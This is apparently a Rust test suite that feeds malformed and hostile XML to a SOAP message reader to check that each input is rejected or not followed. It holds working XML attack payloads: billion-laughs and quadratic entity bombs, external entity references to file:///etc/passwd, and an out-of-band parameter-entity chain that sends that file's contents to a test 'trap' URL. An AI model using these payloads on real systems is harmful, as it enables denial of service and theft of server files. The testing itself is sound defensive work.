//! Inputs against the XML reader: entities and DTDs, what stands where it may not, and names that are none.

use super::case::{Case, Expected, MARK};
use crate::scenery::MISTYPED;
use crate::support::message::Message;

const DECLARATION: &str = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>";

/// A message that grants, would it be carried out.
fn grant() -> String {
    Message::create().0
}

fn after_declaration(insert: &str, message: &str) -> String {
    assert!(message.starts_with(DECLARATION));
    message.replacen(DECLARATION, &format!("{DECLARATION}{insert}"), 1)
}

/// A grant behind a DOCTYPE, with a text that uses what it declares.
fn dtd(doctype: &str, text: &str) -> String {
    let used = Message::create().set("psop:decisionRef", text).0;
    after_declaration(doctype, &used)
}

pub fn cases(trap: &str) -> Vec<Case> {
    let mut cases = entities(trap);
    cases.extend(misplaced());
    cases.extend(tags());
    cases.extend(structure(trap));
    cases
}

fn entities(trap: &str) -> Vec<Case> {
    let laughs: String = (1..10)
        .map(|no| {
            format!(
                "<!ENTITY l{no} \"{}\">",
                format!("&l{};", no - 1).repeat(10)
            )
        })
        .collect();
    let long = MARK.repeat(10_000);
    let doctypes: Vec<(&str, String, String)> = vec![
        (
            "billion laughs",
            format!("<!DOCTYPE l [<!ENTITY l0 \"{MARK}\">{laughs}]>"),
            "&l9;".into(),
        ),
        (
            "quadratic entity",
            format!("<!DOCTYPE l [<!ENTITY l \"{long}\">]>"),
            "&l;".repeat(10_000),
        ),
        (
            "entity of itself",
            "<!DOCTYPE l [<!ENTITY l \"&l;\">]>".into(),
            "&l;".into(),
        ),
        (
            "external entity, file",
            "<!DOCTYPE l [<!ENTITY l SYSTEM \"file:///etc/passwd\">]>".into(),
            "&l;".into(),
        ),
        (
            "external entity, http",
            format!("<!DOCTYPE l [<!ENTITY l SYSTEM \"{trap}\">]>"),
            "&l;".into(),
        ),
        (
            "external entity, public",
            format!("<!DOCTYPE l [<!ENTITY l PUBLIC \"-//l//\" \"{trap}\">]>"),
            "&l;".into(),
        ),
        (
            "external DTD",
            format!("<!DOCTYPE l SYSTEM \"{trap}\">"),
            MARK.into(),
        ),
        (
            "external DTD, public",
            format!("<!DOCTYPE l PUBLIC \"-//l//\" \"{trap}\">"),
            MARK.into(),
        ),
        (
            "parameter entity",
            format!("<!DOCTYPE l [<!ENTITY % p SYSTEM \"{trap}\"> %p;]>"),
            MARK.into(),
        ),
        (
            "parameter entity that declares",
            "<!DOCTYPE l [<!ENTITY % p \"<!ENTITY l 'x'>\"> %p;]>".into(),
            "&l;".into(),
        ),
        (
            "parameter entity that carries out",
            format!(
                "<!DOCTYPE l [<!ENTITY % f SYSTEM \"file:///etc/passwd\"><!ENTITY % e \"<!ENTITY &#37; s SYSTEM '{trap}?%f;'>\">%e;%s;]>"
            ),
            MARK.into(),
        ),
        (
            "unparsed entity",
            format!(
                "<!DOCTYPE l [<!NOTATION n SYSTEM \"{trap}\"><!ENTITY l SYSTEM \"{trap}\" NDATA n>]>"
            ),
            MARK.into(),
        ),
        ("bare DOCTYPE", "<!DOCTYPE l>".into(), MARK.into()),
        ("DOCTYPE of nothing", "<!DOCTYPE>".into(), MARK.into()),
        ("DOCTYPE in lower case", "<!doctype l>".into(), MARK.into()),
        (
            "two DOCTYPEs",
            "<!DOCTYPE l><!DOCTYPE l>".into(),
            MARK.into(),
        ),
        (
            "DOCTYPE that does not end",
            "<!DOCTYPE l [<!ENTITY l \"".into(),
            MARK.into(),
        ),
        (
            "DOCTYPE of brackets",
            format!("<!DOCTYPE l {}", "[<".repeat(20_000)),
            MARK.into(),
        ),
        (
            "DOCTYPE with a comment that ends it",
            "<!DOCTYPE l [<!-- ]> --><!ENTITY l \"x\">]>".into(),
            "&l;".into(),
        ),
        (
            "default attribute",
            "<!DOCTYPE l [<!ATTLIST l a CDATA \"x\">]>".into(),
            MARK.into(),
        ),
        (
            "element declaration",
            "<!DOCTYPE l [<!ELEMENT l ANY>]>".into(),
            MARK.into(),
        ),
        (
            "conditional section",
            "<!DOCTYPE l [<![INCLUDE[<!ENTITY l \"x\">]]>]>".into(),
            MARK.into(),
        ),
        (
            "entity that nobody declares",
            String::new(),
            "&nbsp;".into(),
        ),
        ("entity without a name", String::new(), "&;".into()),
        ("entity that does not end", String::new(), "&lt".into()),
        ("lone ampersand", String::new(), "a & b".into()),
        ("reference to NUL", String::new(), "&#0;".into()),
        (
            "reference to a control character",
            String::new(),
            "&#x1F;".into(),
        ),
        (
            "reference to a surrogate",
            String::new(),
            "&#xD83D;&#xDE00;".into(),
        ),
        ("reference to U+FFFF", String::new(), "&#xFFFF;".into()),
        (
            "reference beyond Unicode",
            String::new(),
            "&#x110000;".into(),
        ),
        (
            "reference beyond any number",
            String::new(),
            format!("&#{};", "9".repeat(40_000)),
        ),
        ("reference with a sign", String::new(), "&#+65;".into()),
        (
            "reference to a reference",
            String::new(),
            "&&#97;mp;".into(),
        ),
    ];
    let in_attribute = after_declaration(
        "<!DOCTYPE l [<!ENTITY l \"SUBSYSTEM\">]>",
        &Message::create().replace("\"SUBSYSTEM\"", "\"&l;\"").0,
    );
    let mut cases = vec![Case::malformed("entity in an attribute", in_attribute)];
    for (name, doctype, text) in doctypes {
        cases.push(Case::malformed(name, dtd(&doctype, &text)));
    }
    cases
}

fn misplaced() -> Vec<Case> {
    let message = grant();
    let inside = |insert: &str| Message::create().after("xrd:protocolVersion", insert).0;
    let before_end = |insert: &str| grant().replace("</soap:Envelope>", insert);
    let bodies = [
        ("nothing", String::new()),
        ("white space alone", " \r\n\t".repeat(1_000)),
        ("a declaration alone", DECLARATION.to_owned()),
        ("a byte order mark alone", "\u{FEFF}".to_owned()),
        ("text alone", MARK.to_owned()),
        (
            "text before the envelope",
            after_declaration(MARK, &message),
        ),
        ("text after the envelope", format!("{message}{MARK}")),
        ("an element after the envelope", format!("{message}<a/>")),
        (
            "the message twice",
            format!("{message}{}", message.replace(DECLARATION, "")),
        ),
        ("two declarations", after_declaration(DECLARATION, &message)),
        ("blank before the declaration", format!(" {message}")),
        ("declaration inside", inside(DECLARATION)),
        (
            "version 1.1",
            message.replace("version=\"1.0\"", "version=\"1.1\""),
        ),
        ("no version", message.replace(" version=\"1.0\"", "")),
        (
            "standalone maybe",
            message.replace("\"UTF-8\"?>", "\"UTF-8\" standalone=\"maybe\"?>"),
        ),
        ("declaration in capitals", message.replace("<?xml", "<?XML")),
        (
            "style sheet",
            after_declaration("<?xml-stylesheet href=\"file:///etc/passwd\"?>", &message),
        ),
        (
            "processing instruction",
            inside(&format!("<?php {MARK} ?>")),
        ),
        ("processing instruction without a name", inside("<? ?>")),
        ("processing instruction that does not end", inside("<?php ")),
        ("comment that does not end", inside("<!-- ")),
        ("comment with two hyphens", inside("<!-- a -- b -->")),
        ("comment with three hyphens", inside("<!-- a --->")),
        ("comment inside a tag", inside("<a <!-- x --> />")),
        ("CDATA that does not end", inside("<a><![CDATA[ ")),
        (
            "CDATA inside CDATA",
            inside("<a><![CDATA[<![CDATA[x]]>]]></a>"),
        ),
        ("CDATA in small letters", inside("<a><![cdata[x]]></a>")),
        (
            "CDATA outside the envelope",
            format!("{message}<![CDATA[]]>"),
        ),
        ("the end of CDATA in text", inside("<a>]]></a>")),
        ("a section that is none", inside("<![IGNORE[ x ]]>")),
        ("envelope without its end", before_end("")),
        (
            "envelope with two ends",
            before_end("</soap:Envelope></soap:Envelope>"),
        ),
    ];
    bodies
        .into_iter()
        .map(|(name, body)| Case::malformed(name, body))
        .collect()
}

fn tags() -> Vec<Case> {
    let pieces = [
        ("tags that cross", "<a><b></a></b>"),
        ("end without a beginning", "</a>"),
        ("end in another case", "<a></A>"),
        (
            "end with another prefix",
            "<x:a xmlns:x=\"urn:x\" xmlns:y=\"urn:x\"></y:a>",
        ),
        ("end with an attribute", "<a></a b=\"\">"),
        ("blank before a name", "< a/>"),
        ("blank in an end", "<a></ a>"),
        ("blank in an empty tag", "<a/ >"),
        ("tag of nothing", "<>"),
        ("tag of a slash", "</>"),
        ("tag in a tag", "<a <b/> />"),
        ("name of a digit", "<1/>"),
        ("name of a hyphen", "<-a/>"),
        ("name of two colons", "<xrd:a:b/>"),
        ("name that begins with a colon", "<:a/>"),
        ("name that ends with a colon", "<xrd:/>"),
        ("name with a quote", "<a\"/>"),
        ("name beyond letters", "<a\u{2028}b/>"),
        ("attribute without a value", "<a b/>"),
        ("attribute without quotes", "<a b=c/>"),
        ("attribute with one quote", "<a b=\"c/>"),
        ("attribute with two kinds of quotes", "<a b=\"c'/>"),
        ("attribute with a tag", "<a b=\"<c/>\"/>"),
        ("attribute without a name", "<a =\"c\"/>"),
        ("attributes without a blank", "<a b=\"\"c=\"\"/>"),
        ("attribute twice", "<a b=\"\" b=\"\"/>"),
        (
            "attribute twice by its namespace",
            "<a xmlns:x=\"urn:x\" xmlns:y=\"urn:x\" x:b=\"\" y:b=\"\"/>",
        ),
        (
            "attribute twice by a namespace in disguise",
            "<a xmlns:x=\"urn:x\" xmlns:y=\"urn:&#120;\" x:b=\"\" y:b=\"\"/>",
        ),
        (
            "declaration twice",
            "<a xmlns:x=\"urn:x\" xmlns:x=\"urn:y\"/>",
        ),
        ("prefix of nobody", "<x:a/>"),
        ("attribute's prefix of nobody", "<a x:b=\"\"/>"),
        ("prefix bound to nothing", "<x:a xmlns:x=\"\"/>"),
        ("prefix xml bound to another", "<a xmlns:xml=\"urn:x\"/>"),
        ("prefix xmlns bound", "<a xmlns:xmlns=\"urn:x\"/>"),
        (
            "namespace of xmlns bound",
            "<a xmlns:x=\"http://www.w3.org/2000/xmlns/\"/>",
        ),
        (
            "namespace of xml bound to another",
            "<a xmlns:x=\"http://www.w3.org/XML/1998/namespace\"/>",
        ),
    ];
    pieces
        .into_iter()
        .map(|(name, xml)| {
            Case::malformed(name, Message::create().after("xrd:protocolVersion", xml).0)
        })
        .collect()
}

/// Well-formed, and still not what it should be; or what it should be, with addresses that lure.
fn structure(trap: &str) -> Vec<Case> {
    const HEADER: Expected = Expected::Fault(&["HEADER_INVALID"]);
    let swap = |from: &str, to: &str| Message::create().replace(from, to).0;
    let lookup = |insert: &str| {
        Message::lookup(MISTYPED)
            .after("xrd:protocolVersion", insert)
            .0
    };
    let namespace = "http://schemas.xmlsoap.org/soap/envelope/";
    let lures = [
        (
            "XInclude",
            format!("<i:include xmlns:i=\"http://www.w3.org/2001/XInclude\" href=\"{trap}\"/>"),
        ),
        (
            "schema location",
            format!(
                "<a xmlns:i=\"http://www.w3.org/2001/XMLSchema-instance\" i:schemaLocation=\"urn:a {trap}\"/>"
            ),
        ),
        ("base address", format!("<a xml:base=\"{trap}\"/>")),
        (
            "WS-Addressing",
            format!(
                "<a:ReplyTo xmlns:a=\"http://www.w3.org/2005/08/addressing\"><a:Address>{trap}</a:Address></a:ReplyTo>"
            ),
        ),
        (
            "namespace that is an address",
            format!("<a xmlns=\"{trap}\"/>"),
        ),
        (
            "security header that must be understood",
            "<s:Security xmlns:s=\"urn:s\" soap:mustUnderstand=\"1\" soap:actor=\"urn:x\"/>"
                .to_owned(),
        ),
    ];
    let mut cases = vec![
        Case::body(
            "SOAP 1.2",
            swap(namespace, "http://www.w3.org/2003/05/soap-envelope"),
            HEADER,
        ),
        Case::body("an envelope of nobody", swap(namespace, "urn:x"), HEADER),
        Case::body(
            "two headers",
            swap("</soap:Header>", "</soap:Header><soap:Header/>"),
            HEADER,
        ),
        Case::body(
            "a header after the body",
            swap("</soap:Body>", "</soap:Body><soap:Header/>"),
            HEADER,
        ),
        Case::body(
            "two bodies",
            swap("</soap:Body>", "</soap:Body><soap:Body/>"),
            HEADER,
        ),
        Case::body(
            "an envelope in the header",
            swap("<soap:Header>", "<soap:Header><soap:Envelope/>x"),
            HEADER,
        ),
        Case::body(
            "text in the envelope",
            swap("<soap:Header>", &format!("{MARK}<soap:Header>")),
            HEADER,
        ),
        Case::body(
            "text in the body",
            swap("<soap:Body>", &format!("<soap:Body>{MARK}")),
            HEADER,
        ),
        Case::body(
            "two operations",
            swap("</soap:Body>", "<psop:postPurchasingPower/></soap:Body>"),
            HEADER,
        ),
        Case::body(
            "an envelope alone",
            format!("<e:Envelope xmlns:e=\"{namespace}\"/>"),
            HEADER,
        ),
        Case::body(
            "an HTML page",
            format!("<html><body>{MARK}</body></html>"),
            HEADER,
        ),
        Case::malformed("JSON", "{\"a\": [1, 2]}"),
    ];
    for (name, xml) in lures {
        cases.push(Case::body(name, lookup(&xml), Expected::Served));
    }
    cases
}
